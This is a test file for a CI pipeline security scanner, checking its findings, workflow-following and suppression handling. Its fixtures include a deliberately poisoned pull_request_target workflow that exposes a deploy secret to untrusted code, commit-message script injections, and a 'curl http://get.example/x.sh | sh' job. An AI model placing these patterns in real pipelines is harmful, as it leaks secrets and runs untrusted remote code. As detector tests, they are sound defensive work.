import { describe, expect, it } from 'vitest';
import { rules } from '#scan/rules.generated.ts';
import { inspectDefinitions } from './inspect-definitions.ts';
import type { DefinitionTree, Inspection, InspectionTask } from './inspection-task.ts';
import { shaOf, type Tree } from './testing/memory-source.ts';

const AS_OF_MS = Date.UTC(2026, 10, 1);
const DEPLOY = '.github/workflows/deploy.yml';

const PINNED = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';
const clean = `on: { push: { branches: [main] } }
permissions: { contents: read }
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - uses: ${PINNED} # v4.2.2
        with: { persist-credentials: false }
      - run: make deploy
`;
/** A stranger’s pull request runs with the secrets of the base. */
const poisoned = `on: { pull_request_target: {} }
permissions: { contents: write }
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - uses: ${PINNED} # v4.2.2
        with: { ref: '\${{ github.event.pull_request.head.sha }}' }
      - run: npm install && npm test
        env: { TOKEN: '\${{ secrets.DEPLOY_TOKEN }}' }
`;

function tree(files: Tree, change: Partial<DefinitionTree> = {}): DefinitionTree {
  return {
    repository: 'acme/shop',
    commit: shaOf('a'),
    file: DEPLOY,
    files: Object.entries(files).map(([file, text]) => ({ file, text })),
    asked: ['.vouchgate.yml', '.vouchgate.yaml'],
    unread: [],
    ...change,
  };
}

function inspect(pipeline: DefinitionTree, change: Partial<InspectionTask> = {}): Inspection {
  const task = { pipeline, callee: undefined, reference: undefined, suppressions: 'default-branch' as const };
  const outcome = inspectDefinitions({ ...task, asOfMs: AS_OF_MS, ...change }, rules);
  if (outcome.kind !== 'inspected') throw new Error(JSON.stringify(outcome));
  return outcome.inspection;
}

const grave = ({ findings }: Inspection) =>
  findings
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule, file, line }) => `${rule} ${file}:${line}`);

describe('an inspection', () => {
  it('is quiet about a clean definition, and loud about a poisoned one, with its line', () => {
    expect(grave(inspect(tree({ [DEPLOY]: clean })))).toEqual([]);
    const found = inspect(tree({ [DEPLOY]: poisoned }));
    expect(grave(found).length).toBeGreaterThan(0);
    expect(grave(found).every((each) => each.includes(DEPLOY))).toBe(true);
    expect(found.findings[0]).toMatchObject({
      repository: 'acme/shop',
      commit: shaOf('a'),
      tool: 'vouchgate',
    });
  });

  it('counts what concerns the definition of the token, and nothing else of the repository', () => {
    const files = { [DEPLOY]: clean, '.github/workflows/other.yml': poisoned };
    expect(grave(inspect(tree(files)))).toEqual([]);
    expect(grave(inspect(tree(files, { file: '.github/workflows/other.yml' }))).length).toBeGreaterThan(0);
    expect(grave(inspect(tree(files, { file: undefined }))).length).toBeGreaterThan(0);
  });

  it('follows calls to workflows and actions of the same repository', () => {
    const caller = clean.replace('- run: make deploy', '- uses: ./.github/actions/ship');
    const action = `name: ship
runs:
  using: composite
  steps:
    - run: echo "\${{ github.event.head_commit.message }}"
      shell: bash
`;
    const files = { [DEPLOY]: caller, '.github/actions/ship/action.yml': action };
    const found = inspect(tree(files));
    expect(found.concerned).toEqual([DEPLOY, '.github/actions/ship/action.yml']);
    expect(found.findings.some(({ file }) => file === '.github/actions/ship/action.yml')).toBe(true);
    const called = clean.replace(/ {4}runs-on[\s\S]*/, '    uses: ./.github/workflows/called.yml\n');
    const callee = poisoned.replace('pull_request_target', 'workflow_call');
    expect(inspect(tree({ [DEPLOY]: called, '.github/workflows/called.yml': callee })).concerned).toEqual([
      DEPLOY,
      '.github/workflows/called.yml',
    ]);
  });

  it('judges the called definition of another repository at its own commit', () => {
    const caller = clean.replace(
      / {4}runs-on[\s\S]*/,
      '    uses: acme/pipelines/.github/workflows/release.yml@main\n',
    );
    const release = clean
      .replace(
        'on: { push: { branches: [main] } }',
        'on: { workflow_call: { inputs: { tag: { type: string } } } }',
      )
      .replace('make deploy', 'make ${{ github.event.head_commit.message }}');
    const callee = tree(
      { '.github/workflows/release.yml': release },
      { repository: 'acme/pipelines', commit: shaOf('b'), file: '.github/workflows/release.yml' },
    );
    const found = inspect(tree({ [DEPLOY]: caller }), { callee });
    expect(found.concerned).toContain('acme/pipelines/.github/workflows/release.yml');
    expect(found.findings).toContainEqual(
      expect.objectContaining({ repository: 'acme/pipelines', commit: shaOf('b'), line: 9 }),
    );
  });

  it('names exactly the contents that the job is made of', () => {
    const digest = (files: Tree) => inspect(tree(files)).workflowDigest;
    const other = { '.github/workflows/other.yml': poisoned };
    expect(digest({ [DEPLOY]: clean, ...other })).toBe(digest({ [DEPLOY]: clean }));
    expect(digest({ [DEPLOY]: `${clean}\n` })).not.toBe(digest({ [DEPLOY]: clean }));
  });

  it('says which tests the pipelines run with an effect', () => {
    const tested = clean.replace('make deploy', 'npm audit').replace('push', 'pull_request');
    expect(inspect(tree({ [DEPLOY]: tested })).tests).toEqual(['SCA']);
    expect(inspect(tree({ [DEPLOY]: tested.replace('npm audit', 'npm audit || true') })).tests).toEqual([]);
  });

  it('says what it could not read of the definition', () => {
    expect(inspect(tree({ [DEPLOY]: 'on: [push\njobs: {' })).unread[0]).toContain(DEPLOY);
    const broken = { [DEPLOY]: clean, '.github/workflows/broken.yml': 'a: [' };
    expect(inspect(tree(broken)).unread).toEqual([]);
    expect(inspect(tree({}, { unread: [DEPLOY] })).unread[0]).toContain('too large');
  });

  it('does not take the absence of the definition for a clean one', () => {
    const task = { callee: undefined, reference: undefined, suppressions: 'none' as const, asOfMs: AS_OF_MS };
    expect(inspectDefinitions({ ...task, pipeline: tree({}) }, rules)).toMatchObject({ kind: 'absent' });
  });

  it('asks for the files that GitLab includes, and judges them too', () => {
    const main = 'include: [{ local: /ci/deploy.yml }, { local: "ci/jobs/*.yml" }]\n';
    const gitlab = tree({ '.gitlab-ci.yml': main }, { file: '.gitlab-ci.yml' });
    const task = { callee: undefined, reference: undefined, suppressions: 'none' as const, asOfMs: AS_OF_MS };
    expect(inspectDefinitions({ ...task, pipeline: gitlab }, rules)).toEqual({
      kind: 'incomplete',
      tree: 'pipeline',
      wanted: ['ci/deploy.yml', 'ci/jobs/*.yml'],
    });
    const deploy =
      'deploy:\n  script:\n    - echo "$CI_COMMIT_MESSAGE" | bash\n    - curl http://get.example/x.sh | sh\n';
    const all = tree(
      { '.gitlab-ci.yml': main, 'ci/deploy.yml': deploy },
      {
        file: '.gitlab-ci.yml',
        asked: ['.vouchgate.yml', '.vouchgate.yaml', 'ci/deploy.yml', 'ci/jobs/*.yml'],
      },
    );
    const found = inspect(all);
    expect(found.concerned).toEqual(['.gitlab-ci.yml', 'ci/deploy.yml']);
    expect(found.findings.some(({ file }) => file === 'ci/deploy.yml')).toBe(true);
  });
});

describe('a configuration of GitLab under another name', () => {
  const named = (files: Tree) =>
    tree(files, { file: 'ci/main.yml', asked: ['.vouchgate.yml', '.vouchgate.yaml', 'ci/main.yml'] });
  const job_ = 'deploy:\n  script:\n    - curl http://get.example/x.sh | sh\n';

  it('is read for what it is, and the usual one is none then', () => {
    const found = inspect(named({ 'ci/main.yml': job_, '.gitlab-ci.yml': job_ }));
    expect(new Set(found.findings.map(({ file }) => file))).toEqual(new Set(['ci/main.yml']));
    expect(found.workflowDigest).toBe(inspect(named({ 'ci/main.yml': job_ })).workflowDigest);
  });

  it('that cannot be read does not pass', () => {
    expect(inspect(named({ 'ci/main.yml': 'a: [' })).unread[0]).toContain('ci/main.yml');
  });
});

describe('what a commit says about its own findings', () => {
  const settings = `version: 1
scan:
  exclude: [".github/workflows/deploy.yml"]
`;
  const [first] = inspect(tree({ [DEPLOY]: poisoned })).findings;
  const rule = first?.rule ?? '';
  const ignored = poisoned.replace(
    / {6}- uses:/,
    `      # vouchgate: ignore[${[...new Set(inspect(tree({ [DEPLOY]: poisoned })).findings.map((each) => each.rule))].join(',')}] trust me\n      - uses:`,
  );
  const waiver = (reason: string) => `version: 1
scan:
  rules:
${[...new Set(inspect(tree({ [DEPLOY]: poisoned })).findings.map((each) => each.rule))].map((id) => `    ${id}: { enabled: false }`).join('\n')}
# ${reason}
`;
  const main = (files: Tree) => tree(files, { commit: shaOf('d') });

  it.each([
    ['its excludes', { [DEPLOY]: poisoned, '.vouchgate.yml': settings }],
    ['its disabled rules', { [DEPLOY]: poisoned, '.vouchgate.yml': waiver('x') }],
    [
      'its zizmor.yml',
      { [DEPLOY]: poisoned, 'zizmor.yml': `rules: { excessive-permissions: { disable: true } }` },
    ],
  ])('%s do not count, unless the default branch says the same of the same', (_, files) => {
    const bad = grave(inspect(tree({ [DEPLOY]: poisoned })));
    const reference = main({ [DEPLOY]: clean });
    expect(grave(inspect(tree(files), { reference }))).toEqual(bad);
    expect(grave(inspect(tree(files), { suppressions: 'none', reference: main(files) }))).toEqual(bad);
    expect(grave(inspect(tree(files), { reference: main(files) })).length).toBeLessThan(bad.length);
    expect(grave(inspect(tree(files), { suppressions: 'all' })).length).toBeLessThan(bad.length);
    // The settings alone are not enough: the finding itself must be accepted there.
    const before = { ...files, [DEPLOY]: clean };
    expect(grave(inspect(tree(files), { reference: main(before) }))).toEqual(bad);
  });

  it('neither does an ignore comment', () => {
    const count = (change: Partial<InspectionTask>) =>
      inspect(tree({ [DEPLOY]: ignored }), change).suppressedCount;
    expect(ignored).not.toBe(poisoned);
    expect(count({})).toBe(0);
    expect(count({ reference: main({ [DEPLOY]: clean }) })).toBe(0);
    expect(count({ suppressions: 'all' })).toBeGreaterThan(0);
    expect(count({ reference: main({ [DEPLOY]: ignored }) })).toBeGreaterThan(0);
    expect(count({ suppressions: 'none', reference: main({ [DEPLOY]: ignored }) })).toBe(0);
    expect(rule).not.toBe('');
  });

  it('what the default branch has too is not new', () => {
    const news = (reference: DefinitionTree | undefined) =>
      new Set(inspect(tree({ [DEPLOY]: poisoned }), { reference }).findings.map(({ isNew }) => isNew));
    expect(news(undefined)).toEqual(new Set([undefined]));
    expect(news(main({ [DEPLOY]: poisoned }))).toEqual(new Set([false]));
    expect(news(main({ [DEPLOY]: clean }))).toContain(true);
  });

  it('rules that the default branch sets up find what the plain ones do not', () => {
    const forbidding =
      'version: 1\nscan:\n  rules:\n    forbidden-action: { settings: { deny: ["actions/*"] } }\n';
    const found = inspect(tree({ [DEPLOY]: clean }), {
      reference: main({ [DEPLOY]: clean, '.vouchgate.yml': forbidding }),
    });
    expect(found.findings.map((each) => each.rule)).toContain('forbidden-action');
  });
});
